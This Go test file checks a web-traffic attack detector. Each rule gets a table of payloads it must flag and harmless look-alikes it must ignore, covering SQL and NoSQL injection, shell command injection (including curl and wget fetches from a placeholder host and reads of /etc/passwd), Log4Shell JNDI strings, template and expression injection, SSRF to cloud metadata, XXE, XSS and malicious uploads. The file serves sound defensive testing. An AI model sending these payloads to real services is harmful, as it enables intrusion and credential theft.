package posture

import (
	"encoding/json"
	"net/url"
	"strings"
	"testing"
	"time"

	"plainsight/analyze"
)

// attackCases are values for rows that judge values (tried in a query and in a
// JSON body), and whole conversations where a text begins with a method.
var attackCases = []struct {
	rule          string
	fires, silent []string
}{
	{"inj.sqli",
		[]string{"1' OR '1'='1", "1 OR 1=1", "x' UNION SELECT name, password FROM users--", "admin'--", "1; DROP TABLE users--", "1' AND SLEEP(5)-- -", "' or 1=1#", "\" or \"a\"=\"a", "1 AND 7=7-- ", "x') OR ('a'='a", "1'; WAITFOR DELAY '0:0:5'--", "0/**/or/**/1=1", "1' ORDER BY 10--", "-1 UNION ALL SELECT 1,2,3", "1%27%20OR%20%271%27%3D%271"},
		[]string{"O'Brien", "don't select more than 5 or 6", "select a union from the list", "it's 5 o'clock -- or later, I guess", "rock 'n' roll", "5 and 5 = 10", "Dwayne \"The Rock\" Johnson", "if a=1 or b=2", "drop; table tennis", "price < 10 or price > 20", "he said 'yes' or 'no'", "x' = x'' (second derivative)", "#1 choice", "The student union selected a chair", "5' 11\""}},
	{"inj.nosql",
		[]string{`POST /login HTTP/1.1` + "\n\n" + `{"user":"a","password":{"$ne":""}}` + ok, `POST /login HTTP/1.1` + "\n\n" + `{"username":{"$gt":""},"password":{"$gt":""}}` + ok, "GET /a?password[$ne]=1 HTTP/1.1" + ok, `POST /q HTTP/1.1` + "\n\n" + `{"$where":"this.a==this.b"}` + ok, "'; return true; var x='", "' || '1'=='1"},
		[]string{`POST /q HTTP/1.1` + "\n\n" + `{"filter":{"price":{"$gt":5}}}` + ok, "GET /a?price[$gt]=5 HTTP/1.1" + ok, "GET /a?filter[status]=open HTTP/1.1" + ok, "it's true; return it", `POST /q HTTP/1.1` + "\n\n" + `{"$schema":"x","password":"y"}` + ok, "cost in $in total"}},
	{"inj.os",
		[]string{"8.8.8.8; cat /etc/passwd", "x | whoami", "a && curl http://x.example/", "$(id)", "`sleep 5`", "x; sleep 5", "127.0.0.1|ping -c 3 x", "a\nwget http://x.example/a.sh", "x;cat${IFS}/etc/hosts"},
		[]string{"name|id|type", "salt; pepper", "cats & dogs", "R&D; type A", "ls and cat are commands", "cost is $(5)", "a;b;c", "Tom & id", "wash, rinse; sleep well", "use `code` here"}},
	{"inj.ssti",
		[]string{"{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{''.__class__.__mro__}}", "{{config.items()}}", "{{7*'7'}}"},
		[]string{"{{user.name}}", "${amount}", "{\"a\": 7}", "{{#if paid}}yes{{/if}}", "7*7", "Hello {{ first_name }}, 5*5 stars"}},
	{"inj.ldap",
		[]string{"*)(uid=*))(|(uid=*", "admin)(&)", "*)(|(objectclass=*", "x)(cn=*", "a)(!(b=c))"},
		[]string{"call (555) 123", "f(x)(y)", "(a)(b=c)", "smile :) (really)", "a) first (b) second"}},
	{"inj.xpath",
		[]string{"x'] | //user/*['", "' or count(//user)=1 or 'a'='b", "' or name()='user' or 'x'='y", "x' and string-length(//a)=3 and 'a", "'] | //password | a['"},
		[]string{"//comment", "a/b/c", "it's name() here", "user's //home", "count(1)"}},
	{"inj.el",
		[]string{"${T(java.lang.Runtime).getRuntime().exec('id')}", "%{#context['x']}", "%{(#_memberAccess=@ognl.OgnlContext@x)}", "#{request.getClass().forName('x')}", "*{T(java.lang.System).getenv()}"},
		[]string{"${user}", "%{count}", "#{i18n.title}", "java.lang.String", "${java}"}},
	{"inj.log4j",
		[]string{"${jndi:ldap://x.example/a}", "${${lower:j}ndi:ldap://x/a}", "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}", "${${env:X:-j}ndi:dns://x}", "GET /a HTTP/1.1\nUser-Agent: ${jndi:ldap://x.example/a}" + ok, "GET /a HTTP/1.1\nUser-Agent: () { :;}; /bin/id" + ok},
		[]string{"${name}", "jndi:ldap://x", "${lower:abc}", "${env:HOME:-/root}", "GET /a HTTP/1.1\nUser-Agent: thing/1.0 ({x})" + ok}},
	{"deser.object",
		[]string{"rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "AAEAAAD/////AQAAAAAAAAAMAgAAAE", "gASVJAAAAAAAAACMBXBvc2l4lIwGc3lzdGVt", `O:8:"stdClass":1:{s:1:"a";i:1;}`, "BAhvOhFBY3RpdmVTdXBwb3J0", `{"rce":"_$$ND_FUNC$$_function(){}()"}`, "!!python/object/apply:os.system"},
		[]string{"rO0A", "AAEAAAABBBBCCCCDDDDEEEE", "gAS is a gas and nothing else", "O: what a day it was", "BAh7BzoJdXNlcmkG--0123456789abcdef0123456789abcdef01234567", "Tzo me and other words", token32}},
	{"lfi.path",
		[]string{"../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "file:///etc/hosts", "php://filter/convert.base64-encode/resource=index", "../../../../x", "%2e%2e%2f%2e%2e%2fetc%2fpasswd"},
		[]string{"../index.html", "docs/../readme", "/etc/passwords-policy", "a..b...c", "wait... what/...", "reports/2024/q1.pdf"}},
	{"ssrf.attempt",
		[]string{"http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:8080/admin", "gopher://x.example:6379/_x", "http://2130706433/", "http://0x7f000001/", "http://metadata.google.internal/x", "http://localhost:9200/", "http://[::1]/", "http://0177.0.0.1/"},
		[]string{"https://example.org/hook", "http://10.2.3.4/hook", "http://example.com/?u=127.0.0.1", "127.0.0.1", "http://face.example.org/", "GET /a?redirect_uri=http://localhost:3000/cb HTTP/1.1" + ok, "mailto://x"}},
	{"proto.pollution",
		[]string{`POST /a HTTP/1.1` + "\n\n" + `{"__proto__":{"admin":true}}` + ok, `POST /a HTTP/1.1` + "\n\n" + `{"constructor":{"prototype":{"x":1}}}` + ok, "GET /a?__proto__[x]=1 HTTP/1.1" + ok, "GET /a?constructor[prototype][x]=1 HTTP/1.1" + ok, `PUT /a HTTP/1.1` + "\n\n" + `{"a":{"__proto__":{"b":1}}}` + ok},
		[]string{`POST /a HTTP/1.1` + "\n\n" + `{"__proto__":{"admin":true}}` + "\n---\n400", `POST /a HTTP/1.1` + "\n\n" + `{"prototype":1}` + ok, `POST /a HTTP/1.1` + "\n\n" + `{"constructor":"Smith & Sons"}` + ok, "GET /a?proto=1 HTTP/1.1" + ok, "__proto__"}},
	{"inj.effect",
		[]string{"GET /a?q=1'+OR+'1'%3D'1 HTTP/1.1\n---\n500\n\nYou have an error in your SQL syntax", "GET /a?n={{191*7}} HTTP/1.1\n---\n200\n\nHello 1337!", "GET /a?f=../../etc/passwd HTTP/1.1\n---\n200\n\nroot:x:0:0:root:/root:/bin/sh", "GET /a?h=x;+cat+/etc/passwd HTTP/1.1\n---\n200\n\nroot:x:0:0:root", "GET /a?h=$(id) HTTP/1.1\n---\n200\n\nuid=0(root) gid=0(root)", "GET /a?u=http://169.254.169.254/ HTTP/1.1\n---\n200\n\nami-id\nhostname", "POST /login HTTP/1.1\n\n" + `{"user":"a","password":{"$ne":""}}` + "\n---\n200\nSet-Cookie: sid=" + token32 + "\n\n{}"},
		[]string{"GET /a?q=1'+OR+'1'%3D'1 HTTP/1.1\n---\n500\n\nsorry", "GET /a?n={{191*7}} HTTP/1.1\n---\n200\n\nHello {{191*7}}! 1337", "GET /a?n={{191*7}} HTTP/1.1\n---\n200\n\nHello 13370", "GET /a?f=../../etc/passwd HTTP/1.1\n---\n404\n\nno ../../etc/passwd", "GET /a?q=O'Brien HTTP/1.1\n---\n500\n\nYou have an error in your SQL syntax", "GET /a?u=http://169.254.169.254/ HTTP/1.1\n---\n200\n\nblocked"}},
	{"xss.reflected",
		[]string{"GET /a?q=<script>alert(1)</script> HTTP/1.1\n---\n200\nContent-Type: text/html\n\n<p><script>alert(1)</script>", "GET /a?q=<img+src=x+onerror=alert(1)> HTTP/1.1\n---\n404\nContent-Type: text/html\n\nno <img src=x onerror=alert(1)>", "GET /a?q=<svg/onload=alert(1)> HTTP/1.1\n---\n200\n\n<svg/onload=alert(1)>", "GET /a?q=\"+onfocus=alert(1)+x=\" HTTP/1.1\n---\n200\nContent-Type: text/html\n\n<a \" onfocus=alert(1) x=\">", "GET /a?q=<a+href=javascript:alert(1)> HTTP/1.1\n---\n200\nContent-Type: text/html\n\n<a href=javascript:alert(1)>"},
		[]string{"GET /a?q=<script>alert(1)</script> HTTP/1.1\n---\n200\nContent-Type: text/html\n\n&lt;script&gt;alert(1)", "GET /a?q=<b>bold</b> HTTP/1.1\n---\n200\nContent-Type: text/html\n\n<b>bold</b>", "GET /a?q=a+<+b+>+c HTTP/1.1\n---\n200\nContent-Type: text/html\n\na < b > c", "GET /a?q=<script>alert(1)</script> HTTP/1.1\n---\n200\nContent-Type: text/html\n\n<script>app()</script>", "GET /a?q=one=two HTTP/1.1\n---\n200\nContent-Type: text/html\n\none=two", "GET /a?q=<a+href=/x> HTTP/1.1\n---\n200\nContent-Type: text/html\n\n<a href=/x>"}},
	{"xml.xxe",
		[]string{`POST /x HTTP/1.1` + "\n\n" + `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>` + ok, `POST /x HTTP/1.1` + "\n\n" + `<!DOCTYPE a [<!ENTITY % e SYSTEM "http://x/e.dtd"> %e;]><a/>` + ok, `POST /x HTTP/1.1` + "\n\n" + `<!DOCTYPE a [<!ENTITY e PUBLIC "x" "http://x">]><a/>` + "\n---\n500", `PUT /x HTTP/1.1` + "\n\n" + ` <!DOCTYPE a [<!ENTITY e SYSTEM 'expect://id'>]><a>&e;</a>` + ok, `POST /x HTTP/1.1` + "\n\n" + `<!DOCTYPE a [<!ENTITY b "x"><!ENTITY e SYSTEM "a">]><a/>` + ok},
		[]string{`POST /x HTTP/1.1` + "\n\n" + `<!DOCTYPE html><html></html>` + ok, `POST /x HTTP/1.1` + "\n\n" + `<a>SYSTEM</a>` + ok, `POST /x HTTP/1.1` + "\n\n" + `<!DOCTYPE a [<!ENTITY e "text">]><a>&e;</a>` + ok, `POST /x HTTP/1.1` + "\n\n" + `{"doc":"<!DOCTYPE a [<!ENTITY e SYSTEM 'x'>]>"}` + ok, `POST /x HTTP/1.1` + "\n\n" + `<!DOCTYPE a SYSTEM "a.dtd"><a/>` + ok}},
	{"xml.bomb",
		[]string{`POST /x HTTP/1.1` + "\n\n" + `<!DOCTYPE a [<!ENTITY a "x"><!ENTITY b "&a;&a;"><!ENTITY c "&b;&b;"><!ENTITY d "&c;&c;">]><a>&d;</a>` + ok, `POST /x HTTP/1.1` + "\n\n" + `<!DOCTYPE a [<!ENTITY b "&a;"><!ENTITY c "&b;"><!ENTITY d "&c;"><!ENTITY e "&d;">]><a/>` + "\n---\n500"},
		[]string{`POST /x HTTP/1.1` + "\n\n" + `<!DOCTYPE a [<!ENTITY a "x"><!ENTITY b "&a;">]><a/>` + ok, `POST /x HTTP/1.1` + "\n\n" + `<!DOCTYPE a [<!ENTITY a "&#60;"><!ENTITY b "&#61;"><!ENTITY c "&#62;">]><a/>` + ok, `POST /x HTTP/1.1` + "\n\n" + `<a>&amp;&lt;&gt;</a>` + ok, `POST /x HTTP/1.1` + "\n\n" + `<!DOCTYPE a><a/>` + ok, `POST /x HTTP/1.1` + "\n\n" + `{}` + ok}},
	{"crlf",
		[]string{"GET /a?u=x%0d%0aSet-Cookie:+a%3Db HTTP/1.1\n---\n302\nSet-Cookie: a=b", "GET /a?u=x%0d%0aLocation:+http://x HTTP/1.1" + ok, "GET /a?u=%0d%0aX-Injected:+1 HTTP/1.1" + ok, "GET /a?u=en%0d%0aContent-Length:+0 HTTP/1.1" + ok, "GET /a?u=x%250d%250aSet-Cookie:+a HTTP/1.1" + ok},
		[]string{"GET /a?u=line%0d%0aline HTTP/1.1" + ok, "POST /a HTTP/1.1\n\n{\"t\":\"a\\r\\nSubject: b\"}" + ok, "GET /a?u=a%0ab:+c HTTP/1.1" + ok, "GET /a?u=a:+b HTTP/1.1" + ok, "GET /a?u=%0d%0a%0d%0a HTTP/1.1" + ok}},
	{"upload.danger",
		[]string{upload(`a.php`, "image/png", "x"), upload(`a.php.jpg`, "image/png", "x"), upload(`shell.jsp`, "text/plain", "x"), upload(`a.png`, "image/png", "<?php x"), upload(`a.gif`, "image/gif", "MZ\x90x")},
		[]string{upload(`a.png`, "image/png", "\x89PNG"), upload(`php-guide.pdf`, "application/pdf", "%PDF"), upload(`notes.txt`, "text/plain", "<?php is how it begins"), strings.Replace(upload(`a.php`, "image/png", "x"), "\n---\n200", "\n---\n415", 1), "POST /a HTTP/1.1\n\nfilename=\"a.php\"" + ok}},
	{"gql.depth",
		[]string{gql(strings.Repeat("{a", 12) + strings.Repeat("}", 12)), gql("{" + strings.Repeat("a:b ", 31) + "}"), gql("query Q " + strings.Repeat("{ x ", 11) + strings.Repeat("}", 11)), gql("mutation {" + strings.Repeat("l:login(c:\"1\") ", 40) + "}"), gql(strings.Repeat("{a", 50))},
		[]string{gql("{a{b}}"), gql("{" + strings.Repeat("a ", 100) + "}"), gql("{a(x:{y:{z:1}}){b}}"), gql("{a(t:\"{{{{{{{{{{{{\"){b}}"), gql("{__schema" + strings.Repeat("{a", 12) + strings.Repeat("}", 13))}},
	{"gql.batch",
		[]string{"POST /graphql HTTP/1.1\n\n[" + strings.Repeat(`{"query":"{a}"},`, 11) + `{"query":"{b}"}]` + ok, "POST /graphql HTTP/1.1\n\n[" + strings.Repeat(`{"query":"mutation{a}"},`, 99) + `{"query":"{b}"}]` + ok},
		[]string{"POST /graphql HTTP/1.1\n\n[" + strings.Repeat(`{"query":"{a}"},`, 9) + `{"query":"{b}"}]` + ok, gql("{a b c}"), "POST /a HTTP/1.1\n\n[" + strings.Repeat(`{"query":"shoes"},`, 20) + `{"query":"b"}]` + ok, "POST /graphql HTTP/1.1\n\n[" + strings.Repeat(`{"query":"{a}"},`, 19) + `{"query":"{b}"}]` + "\n---\n400", "POST /a HTTP/1.1\n\n[1,2,3,4,5,6,7,8,9,10,11,12]" + ok}},
	{"gql.suggest",
		[]string{strings.Replace(gql("{usr}"), `{"a":1}`, `{"errors":[{"message":"Cannot query field \"usr\". Did you mean \"user\"?"}]}`, 1), strings.Replace(gql("{a{pasword}}"), "200\nContent-Type: application/json\n\n{\"a\":1}", "400\n\n{\"errors\":[{\"message\":\"Did you mean 'password'?\"}]}", 1)},
		[]string{gql("{usr}"), strings.Replace(gql("{usr}"), `{"a":1}`, `{"errors":[{"message":"Cannot query field"}]}`, 1), "GET /search?q=shos HTTP/1.1\n---\n200\n\n{\"errors\":[],\"hint\":\"Did you mean shoes?\"}", strings.Replace(gql("{a}"), `{"a":1}`, `{"data":{"t":"Did you mean it?"}}`, 1), gql("{b}")}},
	{"res.unbounded",
		[]string{"GET /a?limit=100000 HTTP/1.1\n---\n200\n\n[" + strings.Repeat("{\"a\":1},", 600) + "{}]", "GET /a?per_page=5000 HTTP/1.1\n---\n200\n\n[" + strings.Repeat("{\"a\":1},", 1000) + "{}]"},
		[]string{"GET /a?limit=100000 HTTP/1.1\n---\n200\n\n[" + strings.Repeat("{\"a\":1},", 100) + "{}]", "GET /a?limit=100 HTTP/1.1\n---\n200\n\n[" + strings.Repeat("{\"a\":1},", 600) + "{}]", "GET /a?q=100000 HTTP/1.1\n---\n200\n\n[" + strings.Repeat("{\"a\":1},", 600) + "{}]", "GET /a?limit=10000 HTTP/1.1\n---\n400\n\n[" + strings.Repeat("{\"a\":1},", 600) + "{}]", "GET /a HTTP/1.1\n---\n200\n\n[" + strings.Repeat("{\"a\":1},", 600) + "{}]"}},
}

func upload(name, kind, content string) string {
	return "POST /files HTTP/1.1\nContent-Type: multipart/form-data; boundary=b\n\n--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"" + name + "\"\r\nContent-Type: " + kind + "\r\n\r\n" + content + "\r\n--b--\n---\n200\n\n{}"
}

func gql(query string) string {
	b, _ := json.Marshal(map[string]string{"query": query})
	return "POST /graphql HTTP/1.1\n\n" + string(b) + ok
}

// tries are the conversations that a case stands for.
func tries(text string) []string {
	if m, _, ok := strings.Cut(text, " "); ok && (m == "GET" || m == "POST" || m == "PUT") {
		return []string{text}
	}
	b, _ := json.Marshal(map[string]string{"text": text})
	return []string{"GET /a?v=" + url.QueryEscape(text) + " HTTP/1.1" + ok, "POST /a HTTP/1.1\n\n" + string(b) + ok}
}

func TestAttacksAndWhatOnlyLooksLikeThem(t *testing.T) {
	for _, c := range attackCases {
		for _, text := range c.fires {
			for _, k := range tries(text) {
				if find(conclude(t, "/a", talk{text: k}), c.rule) == nil {
					t.Errorf("%s: silent on %q", c.rule, k)
				}
			}
		}
		for _, text := range c.silent {
			for _, k := range tries(text) {
				if f := find(conclude(t, "/a", talk{text: k}), c.rule); f != nil {
					t.Errorf("%s: fires (%s) on %q", c.rule, f.Summary, k)
				}
			}
		}
	}
}

// A near miss of one row is no hit of another one.
func TestInnocentValuesAreNoAttackAtAll(t *testing.T) {
	for _, c := range attackCases {
		for _, text := range c.silent {
			k := tries(text)
			if len(k) < 2 {
				continue
			}
			for _, k := range k {
				for _, f := range conclude(t, "/a", talk{text: k}) {
					if f.Practice == analyze.Validation && f.Rule != c.rule && text != "__proto__" {
						t.Errorf("%s fires on %q, a near miss of %s", f.Rule, text, c.rule)
					}
				}
			}
		}
	}
}

func TestInputThatBreaksTheServerAgainAndAgainIsWorse(t *testing.T) {
	talks := join(query(20, "1"), []talk{{text: "GET /a?v=1'+OR+'1'%3D'1 HTTP/1.1\n---\n500", times: 3}})
	if f := find(conclude(t, "/a", talks...), "val.5xx"); f == nil || f.Severity != analyze.Medium {
		t.Errorf("%+v", f)
	}
}

func TestAmountsAndDelaysAreEffects(t *testing.T) {
	clean := talk{text: "GET /a?v=1 HTTP/1.1\n---\n200\n\n{\"rows\":[1]}", times: 10}
	many := talk{text: "GET /a?v=1'+OR+'1'%3D'1 HTTP/1.1\n---\n200\n\n{\"rows\":[" + strings.Repeat("1,", 500) + "1]}"}
	if f := find(conclude(t, "/a", clean, many), "inj.effect"); f == nil || f.Level != analyze.Inferred {
		t.Errorf("many rows: %+v", f)
	}
	slow := talk{text: "GET /a?v=1'+AND+SLEEP(5)--+- HTTP/1.1" + ok, takes: 5200 * time.Millisecond}
	if f := find(conclude(t, "/a", clean, slow), "inj.effect"); f == nil || f.Level != analyze.Proved {
		t.Errorf("a delay: %+v", f)
	}
	slow.takes = 40 * time.Millisecond
	if f := find(conclude(t, "/a", clean, slow), "inj.effect"); f != nil {
		t.Errorf("no delay: %s", f.Summary)
	}
}

func TestFieldsThatHoldQueriesAreNoAttacks(t *testing.T) {
	var talks []talk
	for i := range 12 {
		talks = append(talks, talk{text: "GET /a?v=1'+OR+'1'%3D'1 HTTP/1.1\nUser-Agent: u" + strings.Repeat("x", i) + ok})
	}
	if f := find(conclude(t, "/a", talks...), "inj.sqli"); f != nil {
		t.Errorf("a console: %s", f.Summary)
	}
}

func TestPayloadsAreShownAsSkeletonsOnly(t *testing.T) {
	f := find(conclude(t, "/a", talk{text: "GET /a?v=hunter2secret'+UNION+SELECT+passwort+FROM+geheim-- HTTP/1.1" + ok}), "inj.sqli")
	if f == nil || len(f.Samples) == 0 {
		t.Fatal("no sample")
	}
	for _, w := range []string{"hunter2", "passwort", "geheim"} {
		if strings.Contains(f.Samples[0].Mask, w) {
			t.Errorf("%q shows %s", f.Samples[0].Mask, w)
		}
	}
	if !strings.Contains(f.Samples[0].Mask, "union select") {
		t.Errorf("%q does not show the structure", f.Samples[0].Mask)
	}
}

// kilobyte is a clean exchange's worth of values.
var kilobyte = func() (list [][]byte) {
	for _, s := range []string{"Maren Holt", "maren.holt@postbox.shop", "1987-04-12T10:00:00Z", "https://shop.example/p/17?x=1", "O'Brien & Sons (since 1902)", "a note of a customer who wrote some text, with commas; and more."} {
		list = append(list, []byte(s))
	}
	for len(list) < 24 {
		list = append(list, list[len(list)%6])
	}
	return list
}()

func BenchmarkCleanKilobyte(b *testing.B) {
	r := NewReader(analyze.Key{1}, Options{})
	field := []byte("field")
	b.ReportAllocs()
	for b.Loop() {
		o := r.Begin()
		for _, v := range kilobyte {
			o.Text(field, v)
		}
		if len(o.attacks) > 0 {
			b.Fatal(o.attacks)
		}
	}
}

func TestCleanValuesAllocateNothing(t *testing.T) {
	r := NewReader(analyze.Key{1}, Options{})
	field := []byte("field")
	if n := testing.AllocsPerRun(100, func() {
		o := r.Begin()
		for _, v := range kilobyte {
			o.Text(field, v)
		}
	}); n > 0 {
		t.Errorf("%v allocations", n)
	}
}

func FuzzValue(f *testing.F) {
	for _, c := range attackCases {
		for _, s := range append(c.fires, c.silent...) {
			f.Add([]byte(s))
		}
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		r := NewReader(analyze.Key{1}, Options{})
		o := r.Begin()
		o.Parameter(b, b)
		o.Text(b, b)
		o.Key(analyze.InBody, b, b)
		o.Segment(3, b)
		o.RequestHeader([]byte("x"), b)
		entities(b)
		dangerousUpload(b)
		for i := range o.attacks {
			if s := skeleton(o.attacks[i].text); len(s) > 400 {
				t.Fatalf("skeleton of %d bytes", len(s))
			}
		}
	})
}
